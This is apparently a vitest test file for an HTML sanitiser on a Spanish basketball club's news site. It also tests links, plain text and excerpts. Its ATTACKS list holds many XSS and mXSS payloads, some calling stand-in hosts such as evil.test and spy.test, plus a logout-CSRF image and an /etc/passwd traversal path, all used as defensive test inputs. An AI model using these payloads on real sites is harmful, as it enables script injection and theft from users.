import { describe, expect, test } from 'vitest';
import { FOREIGN_BLOCKS } from './article-blocks.ts';
import { plainText, sanitiseHtml } from './article-html.ts';
import { excerpt } from './excerpt.ts';

/** None of this may run, load or send anything; readable text stays. */
const ATTACKS: [string, string][] = [
  ['<p>hola<script>alert(1)</script></p>', '<p>hola</p>'],
  ['<ScRiPt src=//evil.test/x.js></ScRiPt>texto', 'texto'],
  ['<<script>alert(1)//<</script>', '&lt;'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
  ['<p onclick="alert(1)" onmouseover=alert(1) style="color:red" class="x" id="y">a</p>', '<p>a</p>'],
  ['<p/onclick=alert(1)>a</p>', '<p>a</p>'],
  ['<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
  ['<a href="JaVa\tScRiPt:alert(1)">a</a>', '<a>a</a>'],
  ['<a href="&#106;avascript&#58;alert(1)">a</a>', '<a>a</a>'],
  ['<a href="\u0001javascript:alert(1)">a</a>', '<a>a</a>'],
  ['<a href="vbscript:msgbox(1)">a</a>', '<a>a</a>'],
  ['<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a>a</a>'],
  ['<a href="//evil.test">a</a>', '<a>a</a>'],
  [String.raw`<a href="/\evil.test">a</a>`, '<a>a</a>'],
  [
    '<a href="https://x.test" target="_blank" rel="opener" ping="https://spy.test">a</a>',
    '<a href="https://x.test" rel="noopener noreferrer">a</a>',
  ],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img src="javascript:alert(1)">', ''],
  ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', ''],
  ['<img src="//spy.test/pixel.gif">', ''],
  ['<img src="/api/logout">', ''],
  ['<img src="/uploads/../../etc/passwd">', ''],
  [
    '<img src="https://x.test/a.jpg" srcset="https://spy.test/b.jpg 2x" onload=alert(1)>',
    '<img src="https://x.test/a.jpg" alt="" loading="lazy" />',
  ],
  ['<img src="https://x.test/&quot; onerror=&quot;alert(1).jpg">', ''],
  ['<svg><script>alert(1)</script></svg>', ''],
  ['<svg/onload=alert(1)>', ''],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>', ''],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
  ['<style>@import "//evil.test"; body{display:none}</style>a', 'a'],
  [
    '<link rel=stylesheet href=//evil.test><meta http-equiv=refresh content="0;url=//evil.test"><base href=//evil.test>a',
    'a',
  ],
  ['<iframe src="https://evil.test"></iframe>a', 'a'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>a', 'a'],
  [
    '<object data=x></object><embed src=x><video src=x onerror=alert(1)></video><audio autoplay src=x></audio>a',
    'a',
  ],
  [
    '<form action="//evil.test"><input name=p><button formaction="javascript:alert(1)">enviar</button></form>',
    '<p>enviar</p>',
  ],
  ['<textarea><img src=x onerror=alert(1)></textarea>', ''],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<p></p>'],
  ['<template><script>alert(1)</script></template>', ''],
  ['<!--><script>alert(1)</script>-->a', '--&gt;a'],
  ['<![CDATA[<script>alert(1)</script>]]>a', 'a'],
  ['<?php echo 1 ?>a', 'a'],
  ['a\0<scr\0ipt>alert(1)</scr\0ipt>', 'a'],
  ['<details open ontoggle=alert(1)>a</details>', '<p>a</p>'],
  ['<marquee onstart=alert(1)>a</marquee>', 'a'],
  ['<x-widget onfocus=alert(1) autofocus tabindex=1>a</x-widget>', 'a'],
];

describe('sanitising', () => {
  test.each(ATTACKS)('%s', (dirty, clean) => {
    expect(sanitiseHtml(dirty)).toBe(clean);
  });

  test.each(ATTACKS)('the sanitised form of %s does not change again', (_dirty, clean) => {
    expect(sanitiseHtml(clean)).toBe(clean);
  });

  test.each([
    '<h2>Crónica</h2><p>Ganamos <strong>82-75</strong>, <em>sufriendo</em>.</p>',
    '<ul><li>uno</li><li>dos</li></ul><ol start="3"><li>tres</li></ol>',
    '<blockquote>«Qué noche»</blockquote><hr /><pre><code>a &lt; b</code></pre>',
    '<p><a href="/entradas">Entradas</a>, <a href="mailto:info@pmb.example">correo</a>, <a href="#final">final</a></p>',
    '<figure><img src="/uploads/news/derbi-menorca-1-a.webp" alt="El derbi" loading="lazy" /><figcaption>El derbi</figcaption></figure>',
  ])('a harmless article does not change: %s', (html) => {
    expect(sanitiseHtml(html)).toBe(html);
  });

  test('closes open tags and limits nesting to twenty levels', () => {
    expect(sanitiseHtml('<p>a<strong>b')).toBe('<p>a<strong>b</strong></p>');
    const deep = sanitiseHtml(`${'<blockquote>'.repeat(5000)}fondo`);
    expect(deep.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(20);
  });

  test('an article’s heading is never the page’s h1', () => {
    expect(sanitiseHtml('<h1>Título</h1>')).toBe('<h2>Título</h2>');
  });
});

describe('the end of a block is the end of a line', () => {
  test.each([
    ['<div>a</div><div>b</div>', '<p>a</p><p>b</p>'],
    ['<h5>a</h5><h6>b</h6>', '<h4>a</h4><h4>b</h4>'],
    ['<p><strike>a</strike><del>b</del><ins>c</ins></p>', '<p><s>a</s><s>b</s><u>c</u></p>'],
    ['<section>a<p>b</p>c</section>d', '<p>a</p><p>b</p><p>c</p>d'],
    ['<dl><dt>a</dt><dd>b</dd></dl>', '<p>a</p><p>b</p>'],
    ['<div><strong>a</strong> b</div>', '<p><strong>a</strong> b</p>'],
    ['<div><div><div>a</div></div></div><div><br></div><div>b</div>', '<p>a</p><br /><p>b</p>'],
    ['<strong><div>a</div><div>b</div></strong>', '<strong>a<br />b</strong>'],
    ['<ul><li><div>a</div><div>b</div></li><li>c</li></ul>', '<ul><li><p>a</p><p>b</p></li><li>c</li></ul>'],
    ['<pre><div>a</div><div>b</div></pre>', '<pre>a\nb</pre>'],
    ['<blockquote><div>a</div>b</blockquote>', '<blockquote><p>a</p>b</blockquote>'],
    [
      '<table><thead><tr><th>Equipo</th><th>PTS</th></tr></thead><tbody><tr><td>Palma</td><td> <b>20</b> </td></tr></tbody></table>',
      '<p>Equipo · PTS</p><p>Palma · <b>20</b> </p>',
    ],
    ['<table><tr><td><p>a</p></td><td><p>b</p></td></tr></table>', '<p>a</p><p>b</p>'],
    ['<table><caption>Liga</caption><tr><td>a<td>b<tr><td>c</table>d', '<p>Liga</p><p>a · b</p><p>c</p>d'],
  ])('%s', (html, stored) => {
    expect(sanitiseHtml(html)).toBe(stored);
    expect(sanitiseHtml(stored)).toBe(stored);
  });

  test.each(FOREIGN_BLOCKS.filter((tag) => !/^(?:t[a-z]|caption)/.test(tag)))('of %s', (tag) => {
    const html = `a<${tag}>b</${tag}><${tag}>c</${tag}>d`;
    expect(plainText(html)).toBe('a b c d');
    expect(plainText(`<p>x</p><ul><li>${html}</li></ul>`)).toBe('x a b c d');
    expect(plainText(`<em>${html}</em>`)).toBe('a b c d');
  });
});

describe('links', () => {
  test.each([
    ['www.palma.es/final', 'https://www.palma.es/final'],
    ['palma.es', 'https://palma.es'],
    ['palma-basquet.com:8080/a?b=c', 'https://palma-basquet.com:8080/a?b=c'],
    ['bàsquet.cat/a', 'https://bàsquet.cat/a'],
    ['ana@club.es', 'mailto:ana@club.es'],
  ])('%s is completed', (typed, href) => {
    expect(sanitiseHtml(`<a href="${typed}">a</a>`)).toContain(`<a href="${href}"`);
    expect(sanitiseHtml(sanitiseHtml(`<a href="${typed}">a</a>`))).toContain(`<a href="${href}"`);
  });

  test.each([
    '/entradas',
    '#final',
    '/noticias/7?a=b.com',
    'mailto:ana@club.es',
    'tel:+34971000000',
    'noticias',
  ])('%s stays', (href) => expect(sanitiseHtml(`<a href="${href}">a</a>`)).toBe(`<a href="${href}">a</a>`));
});

test.each(['<ol start="0"><li>a</li></ol>', '<ol start="-2"><li>a</li></ol>', '<pre>\n\nuno</pre>'])(
  '%s stays',
  (html) => expect(sanitiseHtml(html)).toBe(html),
);

describe('plain text', () => {
  test.each([
    ['<p>uno</p><p>dos</p>', 'uno dos'],
    ['<ul><li>uno</li><li>dos</li></ul>tres<br>cuatro', 'uno dos tres cuatro'],
    ['<p>pala<strong>bra</strong>, y <em>fin</em>.</p>', 'palabra, y fin.'],
    ['<p>5 &lt; 6 &amp;&amp; 7 &gt; 2 &quot;sí&quot; caf&eacute;&nbsp;</p>', '5 < 6 && 7 > 2 "sí" café'],
    ['&amp;lt;b&amp;gt;', '&lt;b&gt;'],
    ['  <p>  mucho \n\n espacio </p> ', 'mucho espacio'],
    ['<p>a</p><script>alert(1)</script>', 'a'],
    ['<a href="https://x.test/?a=>b">enlace</a>', 'enlace'],
    ['', ''],
  ])('of %s', (html, text) => {
    expect(plainText(html)).toBe(text);
  });
});

describe('an excerpt', () => {
  test.each([
    ['corto', 120, 'corto'],
    ['doce letras!', 12, 'doce letras!'],
    ['uno dos tres', 9, 'uno dos…'],
    ['uno dos tres', 8, 'uno dos…'],
    ['uno dos tres', 7, 'uno…'],
    ['hola, qué tal', 7, 'hola…'],
    ['palabralarguísima', 8, 'palabra…'],
    ['😀😀😀', 4, '😀…'],
    ['abc', 1, '…'],
  ])('of «%s» in %i characters', (text, length, expected) => {
    expect(excerpt(text, length)).toBe(expected);
    expect(excerpt(text, length).length).toBeLessThanOrEqual(length);
  });
});

test('sanitised HTML does not change again, even if something between two tags was removed', () => {
  const safe = sanitiseHtml('<p><svg/onload=x><p><b>Hola');
  expect(sanitiseHtml(safe)).toBe(safe);
});

test('no half of a character is left behind an end tag that is not closed', () => {
  expect(sanitiseHtml("a</p' b 𐀀")).toBe('a');
});
